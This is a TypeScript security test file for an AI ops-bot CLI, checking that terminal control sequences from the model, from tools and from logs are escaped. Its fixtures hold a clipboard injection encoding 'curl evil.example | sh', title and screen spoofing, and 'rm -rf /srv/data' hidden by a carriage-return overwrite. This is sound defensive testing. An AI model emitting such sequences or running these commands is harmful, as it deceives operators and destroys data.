// attack: `opsbot run` printed the model's answer and tool output raw: OSC 52 clipboard writes, a title change, a
// screen clear, the 8-bit CSI U+009B and a bare CR that overwrote the line. Every control but \n and \t must show
// as an escape, on stdout and stderr alike. The real CLI, the fake OpenAI server and a real log file.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { escapeControls, terminalText } from '../../bot/cli/terminal-stream.js';
import { runCliInProcess } from '../cli/cli-process.js';
import { type FakeOpenAIServer, startFakeOpenAIServer, text, toolCalls } from '../fakes/openai-server.js';

const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const TITLE = '\u001b]0;root@prod\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const EIGHT_BIT_CSI = '\u009b2J';
const OVERWRITE = 'rm -rf /srv/data\rFAKE ✔ approved';
const ANSWER = `Done.${CLIPBOARD}${TITLE}${CLEAR}${EIGHT_BIT_CSI} ${OVERWRITE}`;

/** Every C0 and C1 control, and DEL, but newline and tab. */
const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;

let fake: FakeOpenAIServer;
let dir: string;

beforeEach(async () => {
  fake = await startFakeOpenAIServer();
  dir = mkdtempSync(join(tmpdir(), 'opsbot-terminal-'));
  mkdirSync(join(dir, 'logs'));
  writeFileSync(
    join(dir, 'logs', 'app.log'),
    `2026-01-15T11:00:00Z ERROR upstream said \u009b2J\u009b3J${TITLE} and hung up\n`,
  );
  writeFileSync(
    join(dir, 'opsbot.yaml'),
    [
      'permissions:',
      '  roles:',
      '    admin: { tools: ["*"], approve: ["*"], admin: true }',
      '  identities:',
      "    'local:operator': { roles: [admin], display_name: Olive }",
      'tools:',
      `  log_roots: [${join(dir, 'logs')}]`,
      '  allowed_executables: [/bin/echo, /usr/bin/echo]',
      '  commands:',
      '    echo_text:',
      '      description: Print a text. Use when testing. Do not use otherwise.',
      '      argv: [echo, "{text}"]',
      '      risk: read',
      '      parameters:',
      '        text: { description: What to print }',
      'limits:',
      '  model_retries: 0',
      '',
    ].join('\n'),
  );
});
afterEach(async () => {
  await fake.close();
  rmSync(dir, { recursive: true, force: true });
});

function env(): NodeJS.ProcessEnv {
  return {
    OPSBOT_CONFIG: join(dir, 'opsbot.yaml'),
    OPSBOT_DATA_DIR: join(dir, 'data'),
    OPSBOT_STORE_URL: `sqlite://${join(dir, 'data', 'opsbot.sqlite')}`,
    OPENAI_BASE_URL: fake.baseURL,
    OPENAI_MODEL: 'fake-model',
    LOG_LEVEL: 'error',
  };
}

describe('attack: terminal control sequences from the model and from tools', () => {
  it('attack: opsbot run shows every control in the answer and in tool output as an escape', async () => {
    fake.reply(
      toolCalls([
        { name: 'log_search', arguments: { glob: 'app.log', pattern: `hung${EIGHT_BIT_CSI}` } },
        { name: 'echo_text', arguments: { text: `from a tool${EIGHT_BIT_CSI}${TITLE}` } },
      ]),
      text(ANSWER),
    );
    const { code, out } = await runCliInProcess(['run', 'why did the upstream hang up?'], env());
    expect(code).toBe(0);
    expect(out).toContain('Done.');
    expect(out).not.toMatch(RAW_CONTROL);
    // Shown, so a person sees that something tried: `\x1b]52;c;…`, `\x9b2J`, and the CR that would overwrite.
    expect(out).toContain('\\x1b]52;c;');
    expect(out).toContain('\\x1b]0;root@prod\\x07');
    expect(out).toContain('\\x1b[2J');
    expect(out).toContain('\\x9b2J');
    expect(out).toContain('rm -rf /srv/data\\rFAKE ✔ approved');
  });

  it('attack: a settings error quoting a hostile value cannot reach stderr raw either', async () => {
    const { code, out } = await runCliInProcess(['--as', `eve${CLEAR}${EIGHT_BIT_CSI}`, 'whoami'], env());
    expect(code).toBe(2);
    expect(out).toContain('eve\\x1b[2J');
    expect(out).not.toMatch(RAW_CONTROL);
  });

  it('keeps newlines and tabs, and only our own sealed colour marks become colour codes', () => {
    expect(escapeControls('a\tb\nc\u001b[31md\u0085e\u007f')).toBe('a\tb\nc\\x1b[31md\\x85e\\x7f');
    // Text that looks like a colour mark without this process's key stays as it is, inert.
    const forged = '\uE000000000000000000000000031\uE001red?';
    expect(terminalText(forged)).toBe(forged);
  });
});
